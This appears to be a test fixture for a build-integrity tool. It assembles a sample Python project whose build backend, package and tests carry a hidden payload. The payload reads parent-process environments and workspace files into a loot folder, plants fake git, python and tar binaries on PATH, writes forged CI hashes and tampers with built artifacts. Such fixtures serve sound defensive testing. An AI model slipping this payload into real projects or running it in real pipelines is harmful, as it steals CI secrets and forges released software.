"""A project whose build, tests and package read what they can of their job, and write wherever it looks."""

from __future__ import annotations

from pathlib import Path

from tests.support import sample_projects

HARNESS = ("site-packages", "checkout", "artifacts", "world", "actions")
"""Folders that no machine of a job has: those of the tests themselves."""
EVIL = '''
def evil():
    """Keep what can be read in the folder LOOT, and write wherever the job looks."""
    import contextlib, hashlib, json, os, pathlib
    loot = pathlib.Path("@LOOT@")
    found, environ, pid = [], dict(os.environ), os.getpid()
    while pid > 1:
        with contextlib.suppress(OSError):
            place = pathlib.Path(f"/proc/{pid}")
            data = (place / "environ").read_bytes()
            found += [data, (place / "cmdline").read_bytes()]
            above = dict(each.split("=", 1) for each in data.decode(errors="replace").split("\\0") if "=" in each)
            above = {name: value for name, value in above.items() if value}
            environ = {**above, **environ}
        pid = int((pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split())[1])
    roots = {environ.get(name, "") for name in ("HOME", "GITHUB_WORKSPACE", "RUNNER_TEMP", "TMPDIR")} - {""}
    roots |= {str(pathlib.Path(environ[name]).parent) for name in ("GITHUB_OUTPUT", "UNMOOR_WORLD") if name in environ}
    for root in roots:
        for at, folders, names in os.walk(root):
            folders[:] = [each for each in folders if each not in @HARNESS@]
            for name in names:
                with contextlib.suppress(OSError):
                    path = pathlib.Path(at, name)
                    found += [path.read_bytes()] if path.stat().st_size < 1_000_000 else []
    job = environ.get("GITHUB_JOB", "unknown")
    (loot / f"{job}-@WHERE@-{os.getpid()}").write_bytes(b"\\n".join(found))
    bad = loot / "bin"
    bad.mkdir(exist_ok=True)
    for name in ("unmoor", "python", "git", "tar"):
        (bad / name).write_text(f"#!/bin/sh\\necho {name} $0 $@ >> {loot}/ran\\nenv >> {loot}/ran\\nexit 0\\n")
        (bad / name).chmod(0o755)
    lines = {
        "GITHUB_PATH": f"{bad}\\n",
        "GITHUB_ENV": f"PATH={bad}:/usr/bin:/bin\\nTAG=v6.6.6\\nUNMOOR_MANIFEST_SHA256={'6' * 64}\\n",
        "GITHUB_OUTPUT": "".join(f"{name}-sha256={'6' * 64}\\n" for name in ("manifest", "prove-dists", "rebuild")),
    }
    for name, text in lines.items():
        with contextlib.suppress(OSError, KeyError):
            with open(environ[name], "a") as stream:
                stream.write(text)
    if "@WHERE@" != "tests":
        return  # earlier, it would only fail by itself
    for folder in pathlib.Path(environ.get("GITHUB_WORKSPACE", "/none"), ".unmoor").glob("*"):
        old = {}
        for path in (folder / "dists").glob("*"):
            with contextlib.suppress(OSError):
                old[hashlib.sha256(path.read_bytes()).hexdigest()] = b"forged" + path.read_bytes()
                path.chmod(0o600)
                path.write_bytes(b"forged" + path.read_bytes())
        if old:
            (loot.parent / f"changed-{job}").touch()
        for path in folder.rglob("*.json"):
            with contextlib.suppress(OSError):
                text = path.read_text()
                for digest, forged in old.items():
                    text = text.replace(digest, hashlib.sha256(forged).hexdigest())
                path.chmod(0o600)
                path.write_text(text)


evil()
'''


def hostile_files(loot: Path) -> dict[str, str]:
    """Return the files of the project. What it finds is in ``loot``, a file for each process, named by its job."""

    def at(where: str) -> str:
        words = {"@LOOT@": str(loot), "@WHERE@": where, "@HARNESS@": repr(HARNESS)}
        text = EVIL
        for word, value in words.items():
            text = text.replace(word, value)
        return text

    return {
        "own.py": sample_projects.BACKEND + at("build"),
        "src/small_one/__init__.py": f"def main():\n    return 0\n{at('package')}",
        "tests/check.py": f"import small_one\n\nassert small_one.main() == 0\n{at('tests')}",
    }
